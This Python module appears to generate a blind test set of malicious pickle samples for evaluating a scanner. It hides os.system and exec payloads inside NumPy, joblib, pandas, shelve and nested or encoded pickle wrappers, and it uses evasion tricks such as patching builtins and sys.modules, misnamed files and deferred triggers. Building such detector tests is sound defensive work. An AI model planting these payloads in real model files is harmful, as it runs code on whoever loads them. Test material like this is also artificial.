"""The third blind set: NumPy and joblib files, and pickles in other wrappings."""

from __future__ import annotations

import base64
import bz2
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterator

from corpora.unseen3_base import (
    CODE,
    COMMANDS,
    Build,
    G,
    Raw,
    Sample,
    as_json,
    call,
    dumps,
    gzipped,
    new,
    npy,
    opcodes,
    tarred,
    zipped,
)

LOAD = "import pickle; pickle.load(open(f, 'rb'))"
HERE = "import sys; sys.path.insert(0, '.'); "
SH = COMMANDS[0]
EVIL = call("os:system", SH)
RUN = b"cos\nsystem\n"
ARG = b"X\x0c\x00\x00\x00touch /tmp/x"


def _numpy() -> Iterator[tuple[str, dict[str, bytes], str]]:
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    allow = "import numpy as np; "
    yield "object", {"features.npy": npy(head, dumps(EVIL, 2))}, allow + "np.load(f, allow_pickle=True)"
    yield "object-v2-header", {"y.npy": npy(head, dumps(EVIL, 4), 2)}, allow + "np.load(f, allow_pickle=True)"
    yield (
        "object-v3-header",
        {"names.npy": npy("{'descr': [('é', 'O')], 'fortran_order': True, 'shape': (), }", dumps(EVIL, 4), 3)},
        allow + "np.load(f, allow_pickle=True)",
    )
    nested = "{'descr': [('a', '<f4'), ('b', [('c', '|O', (2,))])], 'fortran_order': False, 'shape': (1,), }"
    yield "object-nested-field", {"table.npy": npy(nested, dumps(EVIL, 2))}, allow + "np.load(f, allow_pickle=True)"
    yield "wrong-name", {"weights.h5": npy(head, dumps(EVIL, 2))}, allow + "np.load(f, allow_pickle=True)"
    yield "bare-pickle-as-npy", {"embeddings.npy": dumps(EVIL, 2)}, allow + "np.load(f, allow_pickle=True)"
    good = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", b"\0" * 8)
    yield (
        "npz-last",
        {"data.npz": zipped({"a.npy": good, "b.npy": npy(head, dumps(EVIL, 2))})},
        allow + "[np.load(f, allow_pickle=True)[k] for k in 'ab']",
    )
    deflated = zipped({"meta.npy": npy(head, dumps(EVIL, 4))}, zipfile.ZIP_DEFLATED)
    yield "npz-deflated", {"run.npz": deflated}, allow + "np.load(f, allow_pickle=True)['meta']"
    yield (
        "npz-lzma",
        {"run.npz": zipped({"m.npy": npy(head, dumps(EVIL, 4))}, zipfile.ZIP_LZMA)},
        allow + "np.load(f, allow_pickle=True)['m']",
    )
    yield (
        "npz-prefixed",
        {"run.npz": b"PK\x03\x04" + b"\0" * 60 + deflated},
        allow + "np.load(f, allow_pickle=True)['meta']",
    )
    yield (
        "two-in-a-file",
        {"stack.npy": good + npy(head, dumps(EVIL, 2))},
        allow + "o = open(f, 'rb'); np.load(o); np.load(o, allow_pickle=True)",
    )
    yield (
        "lib-format",
        {"x.npy": npy(head, dumps(EVIL, 0))},
        "from numpy.lib import format; format.read_array(open(f, 'rb'), allow_pickle=True)",
    )
    yield (
        "recarray",
        {
            "rec.npy": npy(
                "{'descr': [('k', 'O'), ('v', '<i8')], 'fortran_order': False, 'shape': (3,), }", dumps([EVIL], 5)
            )
        },
        allow + "np.load(f, allow_pickle=True)",
    )


def _joblib() -> Iterator[tuple[str, dict[str, bytes], str]]:
    load = "import joblib; joblib.load(f)"
    raw = dumps({"model": EVIL}, 2)
    yield "plain", {"clf.joblib": raw}, load
    yield "zlib", {"clf.joblib.z": zlib.compress(raw)}, load
    yield "gzip", {"clf.joblib": gzipped(raw)}, load
    yield "bz2", {"clf.pkl": bz2.compress(raw)}, load
    yield "xz", {"clf.jbl": lzma.compress(raw)}, load
    yield "lzma-alone", {"clf.lzma": lzma.compress(raw, lzma.FORMAT_ALONE)}, load
    yield "zfile", {"clf.pkl": b"ZF" + f"{hex(len(raw)):<19}".encode() + zlib.compress(raw)}, load
    wrapper = Build(
        new("joblib.numpy_pickle:NumpyArrayWrapper"),
        {
            "subclass": G("numpy:ndarray"),
            "shape": (1,),
            "order": "C",
            "dtype": Build(call("numpy:dtype", "O8", False, True), (3, "|", None, None, None, -1, -1, 63)),
            "allow_mmap": False,
        },
    )
    yield "inline-object-array", {"pipe.joblib": b"\x80\x04" + opcodes(wrapper, 4) + dumps(EVIL, 4) + b"."}, load
    yield (
        "inline-in-dict",
        {"pipe.joblib": b"\x80\x03}X\x04\x00\x00\x00coef" + opcodes(wrapper, 3) + dumps([EVIL], 2) + b"s."},
        load,
    )
    old = Build(
        new("joblib.numpy_pickle_compat:NDArrayWrapper"),
        {"filename": "m.pkl_01.npy", "subclass": G("numpy:ndarray"), "allow_mmap": False},
    )
    evil = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", dumps(EVIL, 2))
    yield "array-beside", {"m.pkl": dumps(old, 2), "m.pkl_01.npy": evil}, load
    yield "mmap", {"big.joblib": raw}, "import joblib; joblib.load(f, mmap_mode='r')"
    yield (
        "cached",
        {"joblib/f/out/output.pkl": gzipped(raw), "joblib/f/out/metadata.json": b"{}"},
        "import joblib; joblib.load('joblib/f/out/output.pkl')",
    )


def _wrapped() -> Iterator[tuple[str, dict[str, bytes], str]]:
    raw = dumps({"w": EVIL}, 4)
    pandas = "import pandas; pandas.read_pickle(f)"
    yield "pandas-gz", {"frame.pkl.gz": gzipped(raw)}, pandas
    yield "pandas-bz2", {"frame.pkl.bz2": bz2.compress(raw)}, pandas
    yield "pandas-xz", {"frame.pkl.xz": lzma.compress(raw)}, pandas
    yield "pandas-zip", {"frame.pkl.zip": zipped({"frame.pkl": raw}, zipfile.ZIP_DEFLATED)}, pandas
    yield "pandas-tar", {"frame.pkl.tar.gz": tarred({"frame.pkl": raw}, "w:gz")}, pandas
    yield "pandas-zst", {"frame.pkl.zst": _zstd(raw)}, pandas
    index = b"'best', (0, %d)\n" % len(raw)
    yield (
        "shelve",
        {"store.dat": raw, "store.dir": index, "store.bak": index},
        "import shelve; shelve.open('store')['best']",
    )
    text = as_json({"model": base64.b64encode(raw).decode()})
    yield (
        "base64-in-json",
        {"model.json": text},
        "import json, base64, pickle; pickle.loads(base64.b64decode(json.load(open(f))['model']))",
    )
    yield (
        "bytes-in-pickle",
        {"m.pkl": dumps({"inner": raw}, 4)},
        "import pickle; pickle.loads(pickle.load(open(f, 'rb'))['inner'])",
    )
    yield (
        "gzip-in-pickle",
        {"m.pkl": dumps({"inner": gzipped(raw)}, 4)},
        "import pickle, gzip; pickle.loads(gzip.decompress(pickle.load(open(f, 'rb'))['inner']))",
    )
    yield (
        "second-stream",
        {"m.pkl": dumps([1, 2]) + dumps(EVIL, 2)},
        "import pickle; o = open(f, 'rb'); pickle.load(o); pickle.load(o)",
    )
    yield (
        "path-append",
        {
            "m.pkl": dumps(Raw(opcodes(G("sys:path"), 4) + b"X\x01\x00\x00\x00.a0cnetlib\nNet\n)\x81"), 4),
            "netlib.py": CODE[0].encode() + b"\nclass Net: pass\n",
        },
        LOAD,
    )
    yield (
        "module-beside",
        {"model.pkl": dumps(new("modeling:Net"), 4), "modeling.py": CODE[1].encode() + b"\nclass Net: pass\n"},
        HERE + LOAD,
    )
    yield (
        "package-beside",
        {
            "model.pkl": dumps(G("sklearn_ext.utils:X"), 4),
            "sklearn_ext/__init__.py": b"",
            "sklearn_ext/utils.py": CODE[2].encode() + b"\nX = 1\n",
        },
        HERE + LOAD,
    )
    yield (
        "sys-modules",
        {
            "m.pkl": dumps(
                Raw(
                    opcodes(G("sys:modules"), 4)
                    + opcodes("json", 4)
                    + opcodes(call("importlib:import_module", "os"), 4)
                    + b"s0cjson\nsystem\n"
                    + ARG
                    + b"\x85R"
                ),
                4,
            )
        },
        LOAD,
    )
    yield (
        "builtins-patched",
        {
            "m.pkl": dumps(
                Raw(
                    opcodes(call("builtins:vars", call("importlib:import_module", "builtins")), 2)
                    + opcodes("len", 2)
                    + opcodes(G("os:system"), 2)
                    + b"s0cbuiltins\nlen\n"
                    + ARG
                    + b"\x85R"
                ),
                2,
            )
        },
        LOAD,
    )
    yield (
        "fixed-after-load",
        {
            "m.pkl": dumps(
                Build(new("argparse:Namespace"), {"predict": call("functools:partial", G("os:system"), SH)}), 4
            )
        },
        "import pickle; pickle.load(open(f, 'rb')).predict()",
    )
    yield (
        "default-factory",
        {"m.pkl": dumps(call("collections:defaultdict", call("functools:partial", G("os:system"), SH)), 4)},
        "import pickle; pickle.load(open(f, 'rb'))['missing']",
    )
    yield (
        "cached-property",
        {"m.pkl": dumps(call("functools:partial", G("builtins:exec"), CODE[0]), 4)},
        "import pickle; pickle.load(open(f, 'rb'))()",
    )
    yield (
        "function-transformer",
        {
            "pipe.pkl": dumps(
                Build(
                    new("sklearn.preprocessing._function_transformer:FunctionTransformer"),
                    {
                        "func": G("os:system"),
                        "validate": False,
                        "inverse_func": None,
                        "accept_sparse": False,
                        "check_inverse": False,
                        "feature_names_out": None,
                        "kw_args": None,
                        "inv_kw_args": None,
                        "n_features_in_": 1,
                    },
                ),
                4,
            )
        },
        "import pickle; pickle.load(open(f, 'rb')).transform('touch /tmp/x')",
    )


def _zstd(raw: bytes) -> bytes:
    """A frame of one raw block; its checksum left out."""
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(raw)]) + struct.pack("<I", len(raw) << 3 | 1)[:3] + raw


def samples() -> Iterator[Sample]:
    """NumPy, joblib and what else holds pickles."""
    for family, rows in (("numpy", _numpy()), ("joblib", _joblib()), ("wrapped", _wrapped())):
        for name, files, loader in rows:
            yield Sample(f"{family}/{name}", files, loader, "code")
